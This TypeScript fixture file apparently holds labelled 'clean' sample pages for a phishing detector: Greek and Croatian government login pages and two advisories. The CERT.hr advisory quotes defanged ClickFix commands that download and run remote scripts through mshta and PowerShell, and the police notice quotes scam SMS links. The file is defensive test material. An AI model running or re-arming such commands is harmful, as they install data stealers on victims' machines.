import { type Entry } from '../entry.js';
import { bankLogo, doc, govMark } from '../parts/xc-kit.js';

// e-EFKA e-services index: each service opens with Taxisnet codes + AMKA (the real flow the phishing copies).
const efka = doc({
  lang: 'el',
  title: 'Ηλεκτρονικές Υπηρεσίες | e-ΕΦΚΑ',
  css: `header{background:#fff;border-bottom:3px solid #00a1de;padding:12px 24px;display:flex;align-items:center;gap:14px}header b{color:#00539f;font-size:20px}
.w{max-width:980px;margin:20px auto;padding:0 16px}.srch{width:100%;padding:12px;border:1px solid #b8c4d0;margin-bottom:16px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:14px}
.s{background:#fff;border:1px solid #dde4ea;padding:16px;border-radius:4px}.s a{display:inline-block;margin-top:8px;background:#00539f;color:#fff;padding:7px 14px;text-decoration:none;font-size:13px}.s p{font-size:13px;color:#555}`,
  body: `<header>${govMark('ΕΦΚΑ', '#00539f')}<b>e-ΕΦΚΑ</b><span style="font-size:13px;color:#555">Ηλεκτρονικός Εθνικός Φορέας Κοινωνικής Ασφάλισης</span></header>
<div class="w"><h1>Ηλεκτρονικές υπηρεσίες</h1><input class="srch" placeholder="Αναζήτηση υπηρεσίας…" aria-label="Αναζήτηση">
<div class="g"><div class="s"><b>Ατομικός λογαριασμός ασφάλισης</b><p>Ένσημα, ημέρες ασφάλισης, εισφορές.</p><a href="https://www.e-efka.gov.gr/el/auth?svc=atlas">Είσοδος με κωδικούς Taxisnet</a></div>
<div class="s"><b>Βεβαίωση συντάξεων</b><p>Εκτύπωση βεβαίωσης για φορολογική χρήση.</p><a href="https://www.e-efka.gov.gr/el/auth?svc=pension-cert">Είσοδος</a></div>
<div class="s"><b>Αίτηση σύνταξης</b><p>Ηλεκτρονική υποβολή αίτησης κύριας σύνταξης.</p><a href="https://www.e-efka.gov.gr/el/auth?svc=atlas-pension">Είσοδος</a></div>
<div class="s"><b>Ασφαλιστική ικανότητα</b><p>Έλεγχος για ιατροφαρμακευτική περίθαλψη.</p><a href="https://www.e-efka.gov.gr/el/auth?svc=ika">Είσοδος</a></div>
<div class="s"><b>Ενημερότητα</b><p>Αποδεικτικό ασφαλιστικής ενημερότητας.</p><a href="https://www.e-efka.gov.gr/el/auth?svc=enimerotita">Είσοδος</a></div>
<div class="s"><b>myEFKAlive</b><p>Ραντεβού με βιντεοκλήση.</p><a href="https://www.e-efka.gov.gr/el/auth?svc=live">Είσοδος</a></div></div>
<p style="font-size:13px;margin-top:20px;background:#fff8e1;padding:10px">Ο e-ΕΦΚΑ δεν στέλνει SMS με συνδέσμους για «έκτακτες ενισχύσεις» και δεν ζητά στοιχεία κάρτας. Οι συντάξεις καταβάλλονται στον λογαριασμό που έχετε δηλώσει.</p></div>`,
});

// NIAS credential chooser on the real e-Građani domain: banks' tokens, eOI, FINA, with the relying service named.
const nias = doc({
  lang: 'hr',
  title: 'NIAS – Odabir vjerodajnice',
  css: `.h{background:#fff;border-bottom:1px solid #ccd;padding:14px 26px;display:flex;gap:12px;align-items:center}.h b{color:#1b3f8b;font-size:18px}.c{max-width:800px;margin:26px auto;background:#fff;padding:26px}
.svc{background:#eef2fa;padding:10px 14px;font-size:14px;margin-bottom:14px}.t{display:grid;grid-template-columns:repeat(3,1fr);gap:12px}.t a{border:1px solid #cdd5e3;background:#fafbfd;padding:14px;border-radius:4px;text-decoration:none;color:#222;font-size:13px}.lv{font-size:11px;color:#777}`,
  body: `<div class="h">${govMark('RH', '#c8102e')}<b>e-Građani</b><span style="font-size:13px;color:#666">Nacionalni identifikacijski i autentifikacijski sustav</span></div>
<div class="c"><div class="svc">Usluga koja traži prijavu: <b>Porezna uprava – ePorezna (JOPPD, porezna kartica)</b> · potrebna razina sigurnosti: značajna</div>
<h2>Odaberite vjerodajnicu</h2><div class="t">
<a href="https://e-gradjani.gov.hr/nias/idp/zaba?req=8f2e1">${bankLogo('zaba', 'ZABA', 22)}<div class="lv">m-zaba token · značajna</div></a>
<a href="https://e-gradjani.gov.hr/nias/idp/pbz?req=8f2e1">${bankLogo('pbz', 'PBZ', 22)}<div class="lv">PBZ mToken · značajna</div></a>
<a href="https://e-gradjani.gov.hr/nias/idp/rba?req=8f2e1">${bankLogo('raiffeisen', 'RBA', 22)}<div class="lv">RBA token · značajna</div></a>
<a href="https://e-gradjani.gov.hr/nias/idp/eoi?req=8f2e1">🪪 Osobna iskaznica (eOI)<div class="lv">visoka</div></a>
<a href="https://e-gradjani.gov.hr/nias/idp/fina?req=8f2e1">🔑 FINA RDC<div class="lv">visoka</div></a>
<a href="https://e-gradjani.gov.hr/nias/idp/aai?req=8f2e1">🎓 AAI@EduHr<div class="lv">niska</div></a></div>
<p style="font-size:12px;color:#666;margin-top:16px">Odabirom banke bit ćete preusmjereni na stranicu za prijavu te banke. Provjerite adresu u pregledniku prije upisa podataka.</p></div>`,
});

// CERT.hr advisory on ClickFix with the exact commands victims were told to paste (quoted, not executable).
const certHr = doc({
  lang: 'hr',
  title: 'ClickFix: lažne CAPTCHA provjere traže od korisnika da sami pokrenu zlonamjerni kod | CERT.hr',
  css: `.h{background:#102a43;color:#fff;padding:14px 26px}.h b{color:#f0b429}.w{max-width:860px;margin:20px auto;padding:0 18px;line-height:1.65}pre{background:#1f2933;color:#e4e7eb;padding:12px;overflow:auto;font-size:13px;border-radius:4px}
.t{background:#fffbea;border-left:4px solid #f0b429;padding:10px 14px}`,
  body: `<div class="h"><b>CERT.hr</b> · Nacionalni CERT · CARNET</div>
<div class="w"><p style="color:#666;font-size:13px">Upozorenja · NCERT-PUBDOC-2025-11-412</p><h1>ClickFix: lažne CAPTCHA provjere i „popravci“ koji korisnika navode da sam pokrene zlonamjerni kod</h1>
<p>Zaprimili smo niz prijava kompromitiranih hrvatskih web-sjedišta na koja je umetnuta lažna provjera „Nisam robot“. Nakon klika, stranica u međuspremnik kopira naredbu i traži od korisnika da pritisne <b>Win + R</b>, zalijepi sadržaj s <b>Ctrl + V</b> i pritisne <b>Enter</b>.</p>
<p>Primjeri naredbi koje smo vidjeli (adrese su onesposobljene):</p>
<pre>mshta hxxps://captcha-check[.]hr-cdn[.]org/c/3310.hta # ✅ Nisam robot – ID 3310
powershell -w hidden -nop -enc JAB3AD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA...
cmd /c start /min powershell -w h -c "irm hxxps://audio-fix[.]teams-hr[.]live/a.ps1 | iex"</pre>
<p>Komentar na kraju naredbe („# Nisam robot“) služi tome da korisnik u prozoru Pokreni vidi samo bezazleni tekst. Krajnji teret su najčešće kradljivci podataka (Lumma, StealC) ili alati za udaljeni pristup (NetSupport).</p>
<div class="t"><b>Preporuke</b><ul><li>Nijedna legitimna CAPTCHA provjera ne traži pokretanje naredbi.</li><li>Administratori mogu onemogućiti dijalog Pokreni (Win + R) grupnim pravilima i pratiti pokretanje mshta.exe i powershell.exe iz explorer.exe.</li><li>Vlasnici web-sjedišta: provjerite umetnute skripte u predlošcima i dodacima CMS-a.</li></ul></div>
<p>Incidente prijavite na <a href="mailto:ncert@cert.hr">ncert@cert.hr</a>.</p></div>`,
});

// Hellenic Police cyber-crime unit notice on fake courier/customs SMS, quoting them.
const astynomia = doc({
  lang: 'el',
  title: 'Ενημέρωση πολιτών για απάτες με μηνύματα για δέματα – Ελληνική Αστυνομία',
  css: `.h{background:#002e6d;color:#fff;padding:12px 24px;display:flex;align-items:center;gap:12px}.w{max-width:820px;margin:20px auto;padding:0 18px;line-height:1.7}
.sms{background:#eef0f6;border-radius:14px 14px 14px 2px;padding:10px 14px;max-width:440px;font-family:Arial;font-size:14px;margin:8px 0}`,
  body: `<div class="h">${govMark('ΕΛ.ΑΣ', '#002e6d', 38)}<b>Ελληνική Αστυνομία · Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος</b></div>
<div class="w"><p style="color:#666;font-size:13px">Ανακοινώσεις · 10.11.2025</p><h1>Προσοχή σε SMS για «τέλη εκτελωνισμού» και «επαναπρογραμματισμό παράδοσης»</h1>
<p>Η Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος ενημερώνει ότι το τελευταίο διάστημα έχουν καταγραφεί εκατοντάδες καταγγελίες για μηνύματα που φαίνεται να αποστέλλονται από εταιρείες ταχυμεταφορών:</p>
<div class="sms">ΕΛΤΑ: Το δέμα σας RE118204377GR βρίσκεται στο τελωνείο. Πληρώστε 1,99€ εδώ: elta-gr.telonio-pay[.]top</div>
<div class="sms">ACS: Αποτυχημένη παράδοση. Επιλέξτε νέα ημερομηνία (κόστος 0,95€): acs-gr.redelivery-fee[.]com</div>
<p>Οι σελίδες ζητούν στοιχεία κάρτας και στη συνέχεια τον κωδικό 3-D Secure, με τον οποίο οι δράστες προσθέτουν την κάρτα σε ψηφιακό πορτοφόλι κινητού.</p>
<p><b>Συμβουλές:</b> ελέγχετε την αποστολή μόνο στην επίσημη ιστοσελίδα της εταιρείας, πληκτρολογώντας τη διεύθυνση· μη δίνετε κωδικούς που λαμβάνετε από την τράπεζά σας. Αν πέσατε θύμα, επικοινωνήστε αμέσως με την τράπεζά σας και με τη Δ.Δ.Η.Ε. στο <b>11188</b> ή στο <a href="mailto:ccu@cybercrimeunit.gov.gr">ccu@cybercrimeunit.gov.gr</a>.</p></div>`,
});

// The real Market Pass page on gov.gr: Taxisnet login and choice of crediting method (historic programme page).
const marketpass = doc({
  lang: 'el',
  title: 'Market Pass | gov.gr',
  css: `.gh{background:#003476;color:#fff;padding:14px 28px;display:flex;align-items:center;gap:14px;font-size:20px;font-weight:700}.w{max-width:800px;margin:26px auto;padding:0 18px;line-height:1.65}
.b{display:inline-block;background:#00703c;color:#fff;padding:11px 22px;text-decoration:none;box-shadow:0 2px 0 #002d18}.n{background:#f3f2f1;border-left:5px solid #1d70b8;padding:12px 16px}`,
  body: `<div class="gh">${govMark('gov', '#0065b3')}gov.gr</div>
<div class="w"><p style="font-size:13px;color:#555">Αρχική › Οικονομία › Επιδόματα</p><h1>Market Pass – Ενίσχυση για αγορές τροφίμων</h1>
<div class="n">Το πρόγραμμα έχει ολοκληρωθεί. Δεν υπάρχει διαδικασία «ανανέωσης» Market Pass. Μηνύματα που ζητούν στοιχεία κάρτας για ανανέωση είναι απάτη.</div>
<p>Η ενίσχυση καταβαλλόταν μέσω ψηφιακής κάρτας ή πίστωσης σε τραπεζικό λογαριασμό (IBAN) που δήλωνε ο δικαιούχος μετά τη σύνδεση με κωδικούς Taxisnet. Οι δικαιούχοι μπορούν να δουν το ιστορικό πιστώσεων στην εφαρμογή.</p>
<p><a class="b" href="https://www1.gsis.gr/oauth2server/login.jsp?client_id=marketpass">Είσοδος στην εφαρμογή (ιστορικό)</a></p>
<h2>Συχνές ερωτήσεις</h2><p><b>Θα μου ζητηθούν στοιχεία κάρτας;</b> Όχι. Η εφαρμογή δεν ζητούσε ποτέ αριθμό κάρτας, CVV ή κωδικούς μίας χρήσης.</p></div>`,
});

export const entries: Entry[] = [
  { id: 'xc-clean-efka-eservices', label: 'clean', kind: 'gov-service-index', url: 'https://www.e-efka.gov.gr/el/elektronikes-yperesies?tab=all', body: efka },
  { id: 'xc-clean-egradjani-nias-login', label: 'clean', kind: 'gov-sso-chooser', url: 'https://e-gradjani.gov.hr/nias/prijava?req=8f2e1', body: nias },
  { id: 'xc-clean-cert-hr-clickfix-advisory', label: 'clean', kind: 'cert-advisory-quoting-commands', url: 'https://www.cert.hr/upozorenja/2025-11-412-clickfix-nisam-robot-naredbe/', body: certHr },
  { id: 'xc-clean-astynomia-courier-sms-warning', label: 'clean', kind: 'police-advisory-quoting-scam', url: 'https://www.astynomia.gr/2025/11/10/ddhe-enimerosi-sms-telonio-elta-acs/', body: astynomia },
  { id: 'xc-clean-marketpass-govgr-info', label: 'clean', kind: 'gov-programme-page', url: 'https://www.gov.gr/ipiresies/oikonomia/epidomata/market-pass-oloklirosi', body: marketpass },
];
